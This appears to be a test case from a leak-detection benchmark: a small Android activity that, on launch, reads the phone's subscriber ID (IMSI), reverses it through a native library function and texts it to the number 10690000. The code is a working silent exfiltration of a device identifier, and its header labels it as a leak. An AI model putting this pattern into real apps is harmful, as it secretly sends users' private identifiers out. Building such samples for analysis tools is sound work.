// about       Native code turns the first argument's characters round and makes a new text of them.
// leak        DEV_IMSI sms
// native      CopiedBytes_leak.c
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  static {
    System.loadLibrary("CopiedBytes_leak");
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String text = turned(phone.getSubscriberId(), "main");
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }

  static native String turned(String subscriber, String screen);
}
